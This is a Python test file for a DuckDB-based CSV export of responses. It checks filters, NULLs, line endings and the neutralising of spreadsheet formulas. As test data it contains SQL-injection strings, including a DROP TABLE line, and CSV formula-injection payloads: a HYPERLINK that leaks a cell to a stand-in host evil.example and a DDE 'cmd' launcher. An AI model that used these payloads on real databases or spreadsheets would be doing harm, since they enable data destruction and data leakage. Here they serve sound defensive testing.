"""The Responses export written by DuckDB's COPY (register/console/exports.py): the filtered view, bound
filters, the header and values of the CSV the page built before, NULLs, and formulas neutralised in the file
DuckDB writes. Expected rows come from the records (``tests.helpers.console_records``) or from the frame the
old path exported (``export_rows`` through ``ui.framework.exports.to_csv_bytes``)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from register.console.exports import FORMULA_PREFIXES, write_csv
from register.console.queries.explorer import EXPORT_COLUMNS, export_rows
from register.console.queries.filters import Filters
from register.scoring.profiles import active_profile
from tests.helpers.console_records import dataset, expected_rows, handmade_records, load, select
from ui.framework.exports import escape_formulas, to_csv_bytes


@pytest.fixture
def loaded(store, tmp_path):
    records = dataset()
    load(store, tmp_path, records)
    return store, expected_rows(records, active_profile(store))


def _rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _as_read(data: bytes) -> pd.DataFrame:
    """A CSV as pandas reads it, times parsed (DuckDB writes ``+00``, pandas wrote ``+00:00``: the same instant)."""
    frame = pd.read_csv(io.BytesIO(data), dtype={"response_id": str, "question": str, "answer": str})
    for column in ("created_at", "as_of"):
        frame[column] = pd.to_datetime(frame[column], utc=True, format="ISO8601")
    return frame


def test_the_csv_is_the_filtered_view_with_the_same_header(loaded, tmp_path):
    store, rows = loaded
    f = Filters(use_cases=("hr-policy",))
    written = write_csv(store, f, tmp_path / "out.csv")
    table = _rows(written.path)
    want = {r.response_id for r in select(rows, f)}
    assert table[0] == list(EXPORT_COLUMNS)
    assert written.rows == len(table) - 1 == len(want) > 0
    assert [r[0] for r in table[1:]] == list(export_rows(store, f)["response_id"])  # the page's order too
    assert {r[0] for r in table[1:]} == want


def test_rows_end_with_crlf(loaded, tmp_path):
    store, _ = loaded
    data = write_csv(store, Filters(), tmp_path / "out.csv").path.read_bytes()
    assert data.startswith(b"response_id,") and data.endswith(b"\r\n")
    assert data.count(b"\r\n") >= len(_rows(tmp_path / "out.csv"))


def test_values_read_back_equal_the_csv_the_page_built_before(loaded, tmp_path):
    store, _ = loaded
    f = Filters(date_from=None, models=())
    before = _as_read(to_csv_bytes(export_rows(store, f)))
    now = _as_read(write_csv(store, f, tmp_path / "out.csv").path.read_bytes())
    assert before["created_at"].isna().any()  # a response without a creation time: NULL in both
    pd.testing.assert_frame_equal(now, before, check_dtype=False)


def test_nulls_are_empty_fields(loaded, tmp_path):
    store, _ = loaded
    table = _rows(write_csv(store, Filters(), tmp_path / "out.csv").path)
    by_id = {r[0]: dict(zip(table[0], r, strict=True)) for r in table[1:]}
    assert by_id["hc-nodate"]["created_at"] == ""
    assert by_id["hc-noclaims"]["decisive_claim_id"] == "" and by_id["hc-noclaims"]["no_claims"] == "true"


def test_bound_filters_are_honoured(loaded, tmp_path):
    store, rows = loaded
    written = write_csv(store, Filters(), tmp_path / "a.csv", search="zeppelinworthy")
    assert written.rows == 1 and _rows(written.path)[1][0] == "hc-slash"
    hostile = write_csv(store, Filters(use_cases=("x' OR '1'='1",)), tmp_path / "b.csv",
                        search="%' OR 1=1; DROP TABLE responses; --")
    assert hostile.rows == 0 and _rows(hostile.path) == [list(EXPORT_COLUMNS)]
    assert write_csv(store, Filters(), tmp_path / "c.csv", limit=3).rows == 3
    assert store.scalar("SELECT count(*) FROM responses WHERE is_current") == len(rows)


def test_a_file_name_with_a_quote(loaded, tmp_path):
    store, _ = loaded
    written = write_csv(store, Filters(use_cases=("hr-policy",)), tmp_path / "it's here.csv")
    assert written.path.is_file() and len(_rows(written.path)) == written.rows + 1


def test_the_frame_for_excel_only_up_to_the_limit(loaded, tmp_path):
    store, _ = loaded
    f = Filters(use_cases=("hr-policy",))
    rows = write_csv(store, f, tmp_path / "a.csv").rows
    assert write_csv(store, f, tmp_path / "b.csv").frame is None  # 0: never
    assert write_csv(store, f, tmp_path / "c.csv", frame_up_to=rows - 1).frame is None
    frame = write_csv(store, f, tmp_path / "d.csv", frame_up_to=rows).frame
    pd.testing.assert_frame_equal(frame, export_rows(store, f))  # unescaped: the Excel writer escapes


HOSTILE = {"question": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "answer": "+cmd|' /C calc'!A0",
           "use_case": "@SUM(A1:A9)", "model": "-2+3"}


def test_formulas_are_neutralised_in_the_file_duckdb_writes(store, tmp_path):
    base = handmade_records()[0]
    records = [
        {**base, "response_id": "hostile-1", **HOSTILE},
        {**base, "response_id": "hostile-2", "question": "\tlead tab", "answer": "\rlead CR, then\r\nCRLF \"quoted\""},
        {**base, "response_id": "plain-1", "question": "What is 1+1?", "answer": "It's -2 degrees, they say."},
    ]
    load(store, tmp_path, records)
    written = write_csv(store, Filters(), tmp_path / "out.csv")
    data = written.path.read_bytes().decode("utf-8")
    assert "'=HYPERLINK(" in data and ',=HYPERLINK' not in data and '"=HYPERLINK' not in data
    table = _rows(written.path)
    got = {r[0]: dict(zip(table[0], r, strict=True)) for r in table[1:]}
    hostile = got["hostile-1"]
    assert hostile["question"] == "'" + HOSTILE["question"]
    assert (hostile["answer"], hostile["use_case"], hostile["model"]) == (
        "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'-2+3")
    assert (got["hostile-2"]["question"], got["hostile-2"]["answer"]) == (
        "'\tlead tab", "'\rlead CR, then\r\nCRLF \"quoted\"")
    assert got["plain-1"]["answer"] == "It's -2 degrees, they say."  # only a leading prefix counts
    # no text cell of the file starts a formula, and every one is what the old path's escaping gives
    assert not [v for r in table[1:] for v in r if v.startswith(FORMULA_PREFIXES)]
    frame = escape_formulas(export_rows(store, Filters()))
    assert [[r["response_id"], r["question"], r["answer"]] for r in got.values()] == \
        frame[["response_id", "question", "answer"]].values.tolist()
